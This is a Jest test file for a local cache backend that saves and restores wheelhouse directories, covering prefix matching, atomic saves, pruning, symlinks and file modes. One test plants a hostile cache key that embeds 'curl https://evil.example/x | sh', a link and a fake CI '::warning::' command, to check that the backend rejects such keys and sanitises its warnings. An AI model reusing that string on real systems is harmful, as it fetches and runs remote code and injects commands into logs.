import { createHash } from 'node:crypto';
import {
  chmod,
  mkdir,
  mkdtemp,
  open,
  readdir,
  readFile,
  rm,
  stat,
  symlink,
  utimes,
  writeFile,
} from 'node:fs/promises';
import { homedir, tmpdir } from 'node:os';
import { join, posix } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { LocalDirBackend } from '../../src/cache/local-dir-backend.js';
import { localEntryId } from '../../src/cache/local-dir-entries.js';
import { defaultCacheDir } from '../../src/cache/user-cache-dir.js';
import { writeManifest } from '../../src/cache/wheelhouse-manifest.js';
import { RecordingLogger } from '../../src/util/logger.js';

let root: string;
let cacheDir: string;
let wheelhouse: string;
let logger: RecordingLogger;

async function fill(dir: string, files: Record<string, string>): Promise<void> {
  await rm(dir, { recursive: true, force: true });
  await mkdir(dir, { recursive: true });
  for (const [name, text] of Object.entries(files)) {
    await mkdir(join(dir, name, '..'), { recursive: true });
    await writeFile(join(dir, name), text);
  }
}

async function contents(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const entry of await readdir(dir, { withFileTypes: true, recursive: true })) {
    if (!entry.isFile()) continue;
    const path = join(entry.parentPath, entry.name);
    out[
      path
        .slice(dir.length + 1)
        .split('\\')
        .join('/')
    ] = await readFile(path, 'utf8');
  }
  return out;
}

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'wh-local-cache-'));
  cacheDir = join(root, 'cache');
  wheelhouse = join(root, 'wheelhouse');
  logger = new RecordingLogger();
});

afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

describe('LocalDirBackend', () => {
  it("leaves a wheelhouse's run lock and its drafts out of the entry (its run holds it while saving)", async () => {
    const backend = new LocalDirBackend({ dir: cacheDir, logger });
    await fill(wheelhouse, {
      'a.whl': 'A',
      '.wheelhouse.lock': 'held by the saving run',
      '.wheelhouse.lock.0123456789ab.new': 'a waiting run',
      'sub/.wheelhouse.lock': 'not at the top: content',
    });
    expect(await backend.save([wheelhouse], 'lock-1')).toEqual({ saved: true });
    await rm(wheelhouse, { recursive: true });
    expect(await backend.restore([wheelhouse], 'lock-1', [])).toEqual({ matchedKey: 'lock-1', exact: true });
    expect(await contents(wheelhouse)).toEqual({
      'a.whl': 'A',
      'sub/.wheelhouse.lock': 'not at the top: content',
    });
  });

  it('saves and restores by exact key, files and nested directories, by position', async () => {
    const backend = new LocalDirBackend({ dir: cacheDir, logger });
    const meta = join(root, 'meta');
    await fill(wheelhouse, { 'a.whl': 'A', 'b.whl': 'B' });
    await fill(meta, { 'x/y.json': '{}' });
    expect(await backend.save([wheelhouse, meta], 'k-1')).toEqual({ saved: true });
    await rm(wheelhouse, { recursive: true });
    await rm(meta, { recursive: true });
    expect(await backend.restore([wheelhouse, meta], 'k-1', ['k-'])).toEqual({
      matchedKey: 'k-1',
      exact: true,
    });
    expect(await contents(wheelhouse)).toEqual({ 'a.whl': 'A', 'b.whl': 'B' });
    expect(await contents(meta)).toEqual({ 'x/y.json': '{}' });
    // An entry with another number of paths never matches.
    expect(await backend.restore([wheelhouse], 'k-1', ['k-'])).toEqual({ exact: false });
  });

  it('restores only the positions asked for (`only`), leaving the other paths as they are', async () => {
    const backend = new LocalDirBackend({ dir: cacheDir, logger });
    const meta = join(root, 'meta');
    const pages = join(root, 'pages');
    await fill(meta, { 'x/y.json': '{}' });
    await fill(pages, { 'p.json': '{"p":1}' });
    expect(await backend.save([meta, pages], 'k-only')).toEqual({ saved: true });
    await rm(meta, { recursive: true });
    await rm(pages, { recursive: true });
    await mkdir(pages);
    expect(await backend.restore([meta, pages], 'k-only', [], { only: [0] })).toEqual({
      matchedKey: 'k-only',
      exact: true,
    });
    expect(await contents(meta)).toEqual({ 'x/y.json': '{}' });
    expect(await readdir(pages)).toEqual([]);
  });

  it('restores the newest entry by prefix and keeps entries immutable', async () => {
    // Keys as cache-key.ts makes them: an entry found by prefix must hold one.
    const prefix = 'wheelhouse-v1-linux-x64-cp312-';
    const key = (digit: string): string => prefix + digit.repeat(32);
    let t = 1000;
    const backend = new LocalDirBackend({ dir: cacheDir, logger, now: () => t });
    await fill(wheelhouse, { 'old.whl': 'old' });
    await backend.save([wheelhouse], key('1'));
    t = 2000;
    await fill(wheelhouse, { 'new.whl': 'new' });
    await backend.save([wheelhouse], key('2'));
    await fill(wheelhouse, { 'other.whl': 'other' });
    expect(await backend.save([wheelhouse], key('2'))).toEqual({
      saved: false,
      reason: 'entry already exists',
    });

    await rm(wheelhouse, { recursive: true });
    expect(await backend.restore([wheelhouse], key('3'), [prefix])).toEqual({
      matchedKey: key('2'),
      exact: false,
    });
    expect(await contents(wheelhouse)).toEqual({ 'new.whl': 'new' });
    expect(
      await backend.restore([wheelhouse], 'wheelhouse-v1-linux-x64-cp313-' + '1'.repeat(32), [
        'wheelhouse-v1-linux-x64-cp313-',
      ]),
    ).toEqual({ exact: false });
  });

  // Review 2 (s12) #6: the key of an entry found by prefix becomes the `cache-matched-key` output,
  // a log line and the job summary; the directory is writable by others.
  it('takes by prefix only an entry holding a wheelhouse key named after it; warns about the rest', async () => {
    const prefix = 'wheelhouse-v1-linux-x64-cp312-';
    const good = prefix + '1'.repeat(32);
    const backend = new LocalDirBackend({ dir: cacheDir, logger, now: () => 1000 });
    await fill(wheelhouse, { 'good.whl': 'good' });
    await backend.save([wheelhouse], good);
    const evil = `${prefix}x\` [click](https://evil.example) "; curl https://evil.example/x | sh; echo "\n::warning::hi${'!'.repeat(5000)}`;
    const plant = async (id: string, key: string): Promise<void> => {
      await fill(join(cacheDir, 'entries', id), { 'data/0/evil.whl': 'evil' });
      await writeFile(
        join(cacheDir, 'entries', id, 'entry.json'),
        JSON.stringify({ key, createdAt: 9999, bytes: 4, paths: ['directory'] }),
      );
    };
    await plant(localEntryId(evil), evil); // named after its key, but no wheelhouse key
    await plant(localEntryId(prefix + '2'.repeat(32)), prefix + '3'.repeat(32)); // another entry's name
    await rm(wheelhouse, { recursive: true });
    expect(await backend.restore([wheelhouse], prefix + '0'.repeat(32), [prefix])).toEqual({
      matchedKey: good,
      exact: false,
    });
    expect(await contents(wheelhouse)).toEqual({ 'good.whl': 'good' });
    const warnings = logger.lines.filter((l) => l.level === 'warn').map((l) => l.message);
    expect(warnings).toHaveLength(2);
    expect(warnings.find((w) => w.includes('not a wheelhouse cache key'))).toContain(
      JSON.stringify(evil.slice(0, 100)) + '…',
    );
    expect(warnings.find((w) => w.includes('not the one its directory is named after'))).toContain(
      JSON.stringify(prefix + '3'.repeat(32)),
    );
    for (const w of warnings) {
      expect(w).not.toContain('\n');
      expect(w.length).toBeLessThan(400);
    }
  });

  it('never exposes an entry before it is complete, and a crashed save leaves nothing visible', async () => {
    // A concurrent reader waits for the directory lock (here: gives up quickly) and never sees a
    // half-built entry either way.
    const reader = new LocalDirBackend({ dir: cacheDir, logger: new RecordingLogger(), lockTimeoutMs: 300 });
    let seenDuringSave: { exact: boolean; matchedKey?: string } | undefined;
    const crashing = new LocalDirBackend({
      dir: cacheDir,
      logger,
      beforeCommit: async (tmp) => {
        // The entry is fully built in tmp/ at this point: a concurrent reader must not see it.
        expect(await contents(tmp)).toHaveProperty(['data/0/a.whl'], 'A');
        seenDuringSave = await reader.restore([join(root, 'elsewhere')], 'c-1', ['c-']);
        throw new Error('simulated crash before commit');
      },
    });
    await fill(wheelhouse, { 'a.whl': 'A' });
    const result = await crashing.save([wheelhouse], 'c-1');
    expect(seenDuringSave).toEqual({ exact: false });
    expect(result.saved).toBe(false);
    expect(result.reason).toContain('simulated crash');
    expect(logger.lines.some((l) => l.level === 'warn')).toBe(true);
    expect(await reader.list()).toEqual([]);
    expect(await reader.restore([join(root, 'elsewhere')], 'c-1', [])).toEqual({ exact: false });

    // A real crash leaves its tmp/ directory behind: invisible to restores, removed once stale.
    const leftover = join(cacheDir, 'tmp', 'save-crashed');
    await fill(leftover, {
      'entry.json': JSON.stringify({ key: 'c-1', createdAt: 0, bytes: 1, paths: ['file'] }),
    });
    const old = new Date(Date.now() - 48 * 3600 * 1000);
    await utimes(leftover, old, old);
    expect(await reader.restore([join(root, 'elsewhere')], 'c-1', ['c-'])).toEqual({ exact: false });
    await reader.save([wheelhouse], 'c-2');
    await expect(stat(leftover)).rejects.toThrow();
  });

  it('prunes least-recently-used entries beyond maxBytes, never the one just saved', async () => {
    let t = 1000;
    const backend = new LocalDirBackend({ dir: cacheDir, logger, maxBytes: 250, now: () => t });
    const save = async (key: string): Promise<void> => {
      await fill(wheelhouse, { [`${key}.whl`]: 'x'.repeat(100) });
      expect((await backend.save([wheelhouse], key)).saved).toBe(true);
    };
    await save('e-1');
    t += 10;
    await save('e-2');
    t += 10;
    // Using e-1 makes e-2 the least recently used.
    expect((await backend.restore([join(root, 'r')], 'e-1', [])).exact).toBe(true);
    t += 10;
    await save('e-3');
    expect((await backend.list()).map((e) => e.key).sort()).toEqual(['e-1', 'e-3']);
    expect(logger.text()).toContain('pruned cache entry e-2');

    const tiny = new LocalDirBackend({ dir: cacheDir, logger, maxBytes: 1, now: () => t });
    t += 10;
    await fill(wheelhouse, { 'big.whl': 'y'.repeat(500) });
    expect((await tiny.save([wheelhouse], 'e-4')).saved).toBe(true);
    expect((await tiny.list()).map((e) => e.key)).toEqual(['e-4']);
  });

  it('falls back to creation times when the access index is broken', async () => {
    let t = 1000;
    const backend = new LocalDirBackend({ dir: cacheDir, logger, maxBytes: 150, now: () => t });
    await fill(wheelhouse, { 'a.whl': 'x'.repeat(100) });
    await backend.save([wheelhouse], 'f-1');
    t += 10;
    await writeFile(join(cacheDir, 'access.json'), '{not json');
    await fill(wheelhouse, { 'b.whl': 'x'.repeat(100) });
    expect((await backend.save([wheelhouse], 'f-2')).saved).toBe(true);
    expect((await backend.list()).map((e) => e.key)).toEqual(['f-2']);
  });

  it('restores by copying when linking is off, and restored files are independent of the cache', async () => {
    const backend = new LocalDirBackend({ dir: cacheDir, logger, link: false });
    await fill(wheelhouse, { 'a.whl': 'A' });
    await backend.save([wheelhouse], 'l-1');
    await rm(wheelhouse, { recursive: true });
    await backend.restore([wheelhouse], 'l-1', []);
    await writeFile(join(wheelhouse, 'a.whl'), 'changed');
    await rm(wheelhouse, { recursive: true });
    await backend.restore([wheelhouse], 'l-1', []);
    expect(await contents(wheelhouse)).toEqual({ 'a.whl': 'A' });
    const file = join(cacheDir, 'entries', localEntryId('l-1'), 'data', '0', 'a.whl');
    if (process.platform !== 'win32') expect((await stat(file)).mode & 0o222).toBe(0);
  });

  it('warns and reports not saved when nothing exists to save, without throwing', async () => {
    const backend = new LocalDirBackend({ dir: cacheDir, logger });
    const result = await backend.save([join(root, 'absent')], 'n-1');
    expect(result.saved).toBe(false);
    expect(result.reason).toContain('none of the paths exist');
    expect(logger.lines.filter((l) => l.level === 'warn')).toHaveLength(1);
  });

  it('warns on an unusable cache directory instead of throwing', async () => {
    const blocker = join(root, 'file-not-dir');
    await writeFile(blocker, 'x');
    const backend = new LocalDirBackend({ dir: join(blocker, 'cache'), logger });
    await fill(wheelhouse, { 'a.whl': 'A' });
    expect((await backend.save([wheelhouse], 'w-1')).saved).toBe(false);
    expect(await backend.restore([wheelhouse], 'w-1', [])).toEqual({ exact: false });
    expect(logger.lines.filter((l) => l.level === 'warn').length).toBeGreaterThanOrEqual(1);
  });

  it('an entry whose file was written in place through a hard link is dropped at its restore, and the run saves a new one (review 15b F8)', async () => {
    const sha = (text: string) => createHash('sha256').update(text).digest('hex');
    const name = 'a-1.0-py3-none-any.whl';
    await fill(wheelhouse, { [name]: 'the resolved wheel' });
    await writeManifest(wheelhouse, { version: 1, files: { [name]: { sha256: sha('the resolved wheel') } } });
    const backend = new LocalDirBackend({ dir: cacheDir, logger, link: true });
    expect(await backend.save([wheelhouse], 'changed-1')).toEqual({ saved: true });
    // A later tool writes the wheel in place (root ignores the 0444; anyone can after chmod u+w).
    await chmod(join(wheelhouse, name), 0o644);
    const handle = await open(join(wheelhouse, name), 'r+');
    await handle.write(Buffer.from('XXX'), 0, 3, 0);
    await handle.close();

    const other = join(root, 'other');
    await fill(other, {});
    await writeManifest(other, { version: 1, complete: false, files: {} });
    expect(await backend.restore([other], 'changed-1', [])).toEqual({ exact: false });
    expect(logger.text()).toContain('no longer have the bytes it was saved with');
    expect(await readdir(join(cacheDir, 'entries'))).toEqual([]);
    // The run downloads the wheel again and its save is the entry from now on.
    await writeFile(join(other, name), 'the resolved wheel');
    await writeManifest(other, { version: 1, files: { [name]: { sha256: sha('the resolved wheel') } } });
    expect(await backend.save([other], 'changed-1')).toEqual({ saved: true });
  });

  it('saves a wheelhouse given as a symbolic link from where it leads; an entry missing a saved path is dropped, no exact hit (review 15b F12)', async () => {
    if (process.platform === 'win32') return;
    const real = join(root, 'disk', 'wh');
    await fill(real, { 'a-1.0-py3-none-any.whl': 'wheel a' });
    await writeManifest(real, {
      version: 1,
      files: { 'a-1.0-py3-none-any.whl': { sha256: createHash('sha256').update('wheel a').digest('hex') } },
    });
    await symlink(real, wheelhouse);
    const backend = new LocalDirBackend({ dir: cacheDir, logger });
    expect(await backend.save([wheelhouse], 'linked-1')).toEqual({ saved: true });
    const other = join(root, 'other');
    await fill(other, {});
    await writeManifest(other, { version: 1, complete: false, files: {} });
    expect(await backend.restore([other], 'linked-1', [])).toEqual({ matchedKey: 'linked-1', exact: true });
    expect(await readFile(join(other, 'a-1.0-py3-none-any.whl'), 'utf8')).toBe('wheel a');

    // An entry saved before this fix (no data/0): dropped when restored, so the run saves anew.
    await rm(join(cacheDir, 'entries', localEntryId('linked-1'), 'data', '0'), {
      recursive: true,
      force: true,
    });
    expect(await backend.restore([other], 'linked-1', [])).toEqual({ exact: false });
    expect(await backend.save([wheelhouse], 'linked-1')).toEqual({ saved: true });
  });

  it("saves only wheelhouse's own files of a wheelhouse: the user's files there keep their mode and stay out of the entry (review 15b F5)", async () => {
    if (process.platform === 'win32') return;
    const sha = (text: string) => createHash('sha256').update(text).digest('hex');
    await fill(wheelhouse, {
      'a-1.0-py3-none-any.whl': 'wheel a',
      'b-1.0-py3-none-any.whl': 'wheel b',
      'build.sh': '#!/bin/sh\n',
      'private/token.txt': 'secret',
    });
    await chmod(join(wheelhouse, 'build.sh'), 0o755);
    await chmod(join(wheelhouse, 'private', 'token.txt'), 0o600);
    await writeManifest(wheelhouse, {
      version: 1,
      files: {
        'a-1.0-py3-none-any.whl': { sha256: sha('wheel a') },
        // The user's own file with the resolution's bytes: used, never wheelhouse's.
        'b-1.0-py3-none-any.whl': { sha256: sha('wheel b'), notOwned: true },
      },
    });
    await chmod(join(wheelhouse, 'b-1.0-py3-none-any.whl'), 0o640);
    const backend = new LocalDirBackend({ dir: cacheDir, logger });
    expect(await backend.save([wheelhouse], 'own-1')).toEqual({ saved: true });
    const mode = async (name: string) => (await stat(join(wheelhouse, name))).mode & 0o777;
    expect(await mode('build.sh')).toBe(0o755);
    expect(await mode('private/token.txt')).toBe(0o600);
    expect(await mode('b-1.0-py3-none-any.whl')).toBe(0o640);
    const data = join(cacheDir, 'entries', localEntryId('own-1'), 'data', '0');
    expect(Object.keys(await contents(data)).sort()).toEqual([
      'a-1.0-py3-none-any.whl',
      'wheelhouse-manifest.json',
    ]);
  });
});

describe('defaultCacheDir', () => {
  it('follows each platform convention', () => {
    expect(defaultCacheDir({ XDG_CACHE_HOME: '/x/cache' }, 'linux', '/home/u')).toBe('/x/cache/wheelhouse');
    expect(defaultCacheDir({ XDG_CACHE_HOME: 'relative' }, 'linux', '/home/u')).toBe(
      '/home/u/.cache/wheelhouse',
    );
    expect(defaultCacheDir({}, 'linux', '/home/u')).toBe('/home/u/.cache/wheelhouse');
    expect(defaultCacheDir({ XDG_CACHE_HOME: '/x' }, 'darwin', '/Users/u')).toBe(
      '/Users/u/Library/Caches/wheelhouse',
    );
    expect(defaultCacheDir({ LOCALAPPDATA: 'C:\\Users\\u\\AppData\\Local' }, 'win32', 'C:\\Users\\u')).toBe(
      'C:\\Users\\u\\AppData\\Local\\wheelhouse\\Cache',
    );
    expect(defaultCacheDir({}, 'win32', 'C:\\Users\\u')).toBe(
      'C:\\Users\\u\\AppData\\Local\\wheelhouse\\Cache',
    );
  });

  it("takes the home from the environment it is given (a CLI run in-process with a test's HOME)", () => {
    expect(defaultCacheDir({ HOME: '/tmp/test-home' }, 'linux')).toBe('/tmp/test-home/.cache/wheelhouse');
    expect(defaultCacheDir({ HOME: '/tmp/test-home' }, 'darwin')).toBe(
      '/tmp/test-home/Library/Caches/wheelhouse',
    );
    expect(defaultCacheDir({ HOME: '/tmp/test-home', XDG_CACHE_HOME: '/x' }, 'linux')).toBe('/x/wheelhouse');
    // An empty HOME is no home: the account's own.
    expect(defaultCacheDir({ HOME: '' }, 'linux')).toBe(posix.join(homedir(), '.cache', 'wheelhouse'));
  });
});
